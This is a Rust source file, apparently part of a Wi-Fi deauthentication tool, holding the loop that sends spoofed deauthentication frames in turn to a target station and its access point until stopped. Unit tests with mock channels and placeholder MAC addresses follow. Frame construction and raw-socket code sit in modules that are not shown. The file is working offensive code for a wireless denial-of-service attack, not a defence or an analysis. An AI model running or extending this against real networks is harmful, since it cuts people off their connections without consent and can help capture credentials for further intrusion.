// Deauth! //

use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Arc;

use crate::error::{DeauthError, Result};
use crate::frame::{apply_sequence_control, build_ap_frame, build_target_frame, Direction, Frame};
use crate::mac::MacAddress;
use crate::rawsocks::RawChannel;
use crate::sequence::SequenceCounter;

#[derive(Clone, Copy, Debug, Eq, PartialEq)]
pub enum LoopState {
    Running,
    Terminated,
}

/// Why the loop stopped without an error.
#[derive(Clone, Copy, Debug, Eq, PartialEq)]
pub enum Termination {
    Interrupted { frames_sent: u64 },
}

/// Sends the station-facing and AP-facing frames back to back until told
/// to stop or a send fails.
pub struct Deauthenticator<C: RawChannel> {
    channel: C,
    target_frame: Frame,
    ap_frame: Frame,
    counter: SequenceCounter,
    running: Arc<AtomicBool>,
    state: LoopState,
    frames_sent: u64,
}

impl<C: RawChannel> Deauthenticator<C> {
    pub fn new(
        channel: C,
        target: &MacAddress,
        bssid: &MacAddress,
        running: Arc<AtomicBool>,
    ) -> Self {
        Deauthenticator {
            channel,
            target_frame: build_target_frame(target, bssid),
            ap_frame: build_ap_frame(target, bssid),
            counter: SequenceCounter::new(),
            running,
            state: LoopState::Running,
            frames_sent: 0,
        }
    }

    pub fn state(&self) -> LoopState {
        self.state
    }

    pub fn frames_sent(&self) -> u64 {
        self.frames_sent
    }

    pub fn target_frame(&self) -> &Frame {
        &self.target_frame
    }

    pub fn ap_frame(&self) -> &Frame {
        &self.ap_frame
    }

    pub fn into_channel(self) -> C {
        self.channel
    }

    /// One iteration: the target frame, then the AP frame, each with a fresh
    /// sequence number.
    pub fn step(&mut self) -> Result<()> {
        if self.state == LoopState::Terminated {
            return Ok(());
        }
        self.transmit(Direction::ToTarget)?;
        self.transmit(Direction::ToAccessPoint)
    }

    /// Runs until the running flag is cleared or a send fails.
    ///
    /// The flag is only checked between iterations, so the two directions
    /// always go out as a pair.
    pub fn run(&mut self) -> Result<Termination> {
        while self.state == LoopState::Running {
            if !self.running.load(Ordering::SeqCst) {
                self.state = LoopState::Terminated;
                break;
            }
            self.step()?;
        }
        Ok(Termination::Interrupted {
            frames_sent: self.frames_sent,
        })
    }

    fn transmit(&mut self, direction: Direction) -> Result<()> {
        let value = self.counter.next_sequence_control();
        let frame = match direction {
            Direction::ToTarget => &mut self.target_frame,
            Direction::ToAccessPoint => &mut self.ap_frame,
        };
        apply_sequence_control(frame, value);

        if let Err(source) = self.channel.send(frame.as_ref()) {
            self.state = LoopState::Terminated;
            return Err(DeauthError::TransmitError { direction, source });
        }
        self.frames_sent += 1;
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use std::io;

    use super::*;
    use crate::frame::FRAME_LEN;
    use crate::sequence::sequence_number;

    /// Records every frame and clears the running flag after `stop_after` sends.
    struct Recorder {
        frames: Vec<Vec<u8>>,
        stop_after: usize,
        running: Arc<AtomicBool>,
    }

    impl RawChannel for Recorder {
        fn send(&mut self, frame: &[u8]) -> io::Result<()> {
            self.frames.push(frame.to_vec());
            if self.frames.len() >= self.stop_after {
                self.running.store(false, Ordering::SeqCst);
            }
            Ok(())
        }
    }

    struct Failing {
        fail_on: usize,
        sent: usize,
    }

    impl RawChannel for Failing {
        fn send(&mut self, _frame: &[u8]) -> io::Result<()> {
            self.sent += 1;
            if self.sent == self.fail_on {
                return Err(io::Error::new(io::ErrorKind::Other, "Network is down"));
            }
            Ok(())
        }
    }

    fn macs() -> (MacAddress, MacAddress) {
        (
            "AA:AA:AA:AA:AA:AA".parse().unwrap(),
            "BB:BB:BB:BB:BB:BB".parse().unwrap(),
        )
    }

    fn recorder(stop_after: usize) -> (Recorder, Arc<AtomicBool>) {
        let running = Arc::new(AtomicBool::new(true));
        let rec = Recorder {
            frames: Vec::new(),
            stop_after,
            running: running.clone(),
        };
        (rec, running)
    }

    #[test]
    fn test_alternates_directions_with_increasing_sequence() {
        let (target, bssid) = macs();
        let (rec, running) = recorder(6);
        let mut deauth = Deauthenticator::new(rec, &target, &bssid, running);

        let termination = deauth.run().unwrap();
        assert_eq!(termination, Termination::Interrupted { frames_sent: 6 });
        assert_eq!(deauth.state(), LoopState::Terminated);

        let frames = deauth.into_channel().frames;
        assert_eq!(frames.len(), 6);
        for (i, frame) in frames.iter().enumerate() {
            assert_eq!(frame.len(), FRAME_LEN);
            let dst = &frame[16..22];
            if i % 2 == 0 {
                assert_eq!(dst, &target.0);
                assert_eq!(&frame[22..28], &bssid.0);
            } else {
                assert_eq!(dst, &bssid.0);
                assert_eq!(&frame[22..28], &target.0);
            }
            let seq_ctrl = u16::from_le_bytes([frame[34], frame[35]]);
            assert_eq!(seq_ctrl & 0x000f, 0);
            assert_eq!(sequence_number(seq_ctrl), i as u16 + 1);
        }
    }

    #[test]
    fn test_step_uses_two_consecutive_numbers() {
        let (target, bssid) = macs();
        let (rec, running) = recorder(usize::MAX);
        let mut deauth = Deauthenticator::new(rec, &target, &bssid, running);

        deauth.step().unwrap();
        deauth.step().unwrap();
        assert_eq!(deauth.target_frame().sequence_control(), 3 << 4);
        assert_eq!(deauth.ap_frame().sequence_control(), 4 << 4);
        assert_eq!(deauth.frames_sent(), 4);
    }

    #[test]
    fn test_interrupt_before_start_sends_nothing() {
        let (target, bssid) = macs();
        let (rec, running) = recorder(usize::MAX);
        running.store(false, Ordering::SeqCst);
        let mut deauth = Deauthenticator::new(rec, &target, &bssid, running);

        let termination = deauth.run().unwrap();
        assert_eq!(termination, Termination::Interrupted { frames_sent: 0 });
        assert!(deauth.into_channel().frames.is_empty());
    }

    #[test]
    fn test_interrupt_mid_pair_finishes_pair() {
        let (target, bssid) = macs();
        // Flag is cleared after the target frame of the second iteration.
        let (rec, running) = recorder(3);
        let mut deauth = Deauthenticator::new(rec, &target, &bssid, running);

        deauth.run().unwrap();
        assert_eq!(deauth.frames_sent(), 4);

        // Terminated loops stay quiet.
        deauth.step().unwrap();
        deauth.run().unwrap();
        assert_eq!(deauth.into_channel().frames.len(), 4);
    }

    #[test]
    fn test_send_failure_terminates() {
        let (target, bssid) = macs();
        let running = Arc::new(AtomicBool::new(true));
        let channel = Failing { fail_on: 4, sent: 0 };
        let mut deauth = Deauthenticator::new(channel, &target, &bssid, running);

        match deauth.run() {
            Err(DeauthError::TransmitError { direction, source }) => {
                assert_eq!(direction, Direction::ToAccessPoint);
                assert_eq!(source.to_string(), "Network is down");
            }
            other => panic!("expected transmit error, got {other:?}"),
        }
        assert_eq!(deauth.state(), LoopState::Terminated);
        assert_eq!(deauth.frames_sent(), 3);
        assert_eq!(deauth.into_channel().sent, 4);
    }

    #[test]
    fn test_transmit_error_message() {
        let err = DeauthError::TransmitError {
            direction: Direction::ToTarget,
            source: io::Error::new(io::ErrorKind::Other, "No such device"),
        };
        assert_eq!(
            err.to_string(),
            "Failed to transmit target frame: No such device"
        );
    }
}
